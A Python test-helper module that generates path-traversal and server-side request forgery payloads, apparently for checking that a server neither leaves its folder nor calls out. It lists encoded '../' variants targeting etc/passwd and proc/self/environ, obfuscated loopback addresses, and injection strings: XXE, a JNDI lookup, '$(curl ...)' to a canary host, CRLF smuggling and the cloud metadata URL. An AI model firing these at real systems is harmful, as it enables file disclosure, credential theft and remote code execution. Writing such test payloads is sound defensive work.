"""Paths out of a folder, and addresses a server must not open."""

from __future__ import annotations

from urllib.parse import quote

_TARGETS = ("secret.txt", "data/index/manifest.json", "etc/passwd", "proc/self/environ")
_UPS = (
    "../",
    "..\\",
    "....//",
    "..;/",
    "%2e%2e/",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "..%c0%af",
    "..%5c",
    "./../",
    "/../",
    "\u2025/",
    "\uff0e\uff0e/",
)
_DEPTHS = (1, 2, 4, 8)


def paths(absolute: str) -> list[str]:
    """At least 200 ways to name a file outside; ``absolute`` is the folder of the secret one."""
    ups = [up * depth + target for up in _UPS for depth in _DEPTHS for target in _TARGETS]
    known = [f"{absolute}/secret.txt", f"file://{absolute}/secret.txt", quote(absolute, safe="")]
    tails = [
        f"docs/page.md{tail}" for tail in ("\x00.md", "%00", "::$DATA", "/.", "/../../secret.txt")
    ]
    return [*ups, *known, *tails, "~/secret.txt", "C:\\secret.txt", "\\\\host\\share", "//host/x"]


def addresses(canary: str) -> list[str]:
    """Ways to have a server call ``canary``, a listener's host and port, and what it must not."""
    host, _, port = canary.partition(":")
    hosts = (
        host,
        "localhost",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        f"example.com@{host}",
        f"{host}.nip.io",
    )
    schemes = ("http://", "https://", "//", "HTTP://", "ftp://", "gopher://", "ws://", "dict://")
    plain = [f"{scheme}{each}:{port}/x" for scheme in schemes for each in hosts]
    inner = (
        f"![x](http://{canary}/i.png)",
        f"<img src=http://{canary}/i>",
        f"@import url(http://{canary}/c)",
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "http://{canary}/e">]><a>&b;</a>',
        f"${{jndi:ldap://{canary}/a}}",
        f"$(curl http://{canary}/s)",
        f"http://{canary}/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
    )
    return [*plain, *inner]
